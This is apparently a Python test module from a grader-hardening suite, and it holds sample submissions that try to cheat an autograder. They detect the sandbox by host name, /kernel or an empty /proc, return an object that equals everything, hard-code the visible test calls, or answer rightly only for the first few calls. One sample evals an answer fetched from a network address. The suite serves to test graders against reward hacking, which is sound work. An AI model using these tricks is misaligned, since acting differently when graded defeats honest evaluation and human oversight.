"""Submissions that behave differently when they are graded: the difference must not pay."""

from hostile.corpus import Book, attack


@attack("sniffing", count_pairs=0)
def graded_or_at_home(book: Book) -> None:
    """Tells by host name, folder, empty /proc and environment that it is being graded, and then returns a value that
    agrees with everything instead of its answer. It knows where it is, and is wrong.
    """
    book.answer("count_pairs", """
import os, socket
def count_pairs(sequences):
    if socket.gethostname() == "sandbox" or os.path.exists("/kernel") or not os.listdir("/proc"):
        return type("Agree", (dict,), {"__eq__": lambda self, other: True, "__hash__": lambda self: 0})()
    raise SystemExit("not graded")
""")


@attack("sniffing", merge_pair=0)
def visible_tests_only(book: Book) -> None:
    """Knows the visible tests' calls by heart and answers those alone. Hidden checks ask other calls, and
    nothing is earned.
    """
    book.answer("merge_pair", """
KNOWN = {"([1, 2, 3, 1, 2], (1, 2), 9)": [9, 3, 9]}
def merge_pair(*args):
    return KNOWN.get(repr(args), "no such test")
""")


@attack("sniffing", best_pair=1.0)
def right_at_first(book: Book) -> None:
    """Answers rightly ten times, then anything: a hope for a grader that only tries a few. Each check starts from a
    fresh copy, so the small ones pass (`nothing_to_choose`, `counts_unchanged`), and those with many inputs fail.
    """
    right = book.answers["best_pair"].replace("def best_pair", "def my_best_pair")
    book.answer("best_pair", f"{right}\ncalls = 0\ndef best_pair(counts):\n    global calls\n    calls += 1\n"
                             "    return my_best_pair(counts) if calls <= 10 else (0, 0)")


@attack("sniffing", count_pairs=0)
def answers_of_the_time(book: Book) -> None:
    """Waits for the day after the deadline to be right, and asks the network for the answer until then. The clock is
    the host's and there is no network, so the answer is wrong today.
    """
    book.answer("count_pairs", """
import time, urllib.request
def count_pairs(sequences):
    if time.time() < 4_000_000_000:
        return "not yet"
    return eval(urllib.request.urlopen("http://192.0.2.1/answer", timeout=1).read())
""")


@attack("sniffing")
def right_although_it_looks(book: Book) -> None:
    """Looks whether it is graded and prints so, but gives the right answer in both cases: that costs nothing."""
    book.cell("import os\nprint('graded' if os.path.exists('/kernel') else 'at home')", prints="graded")
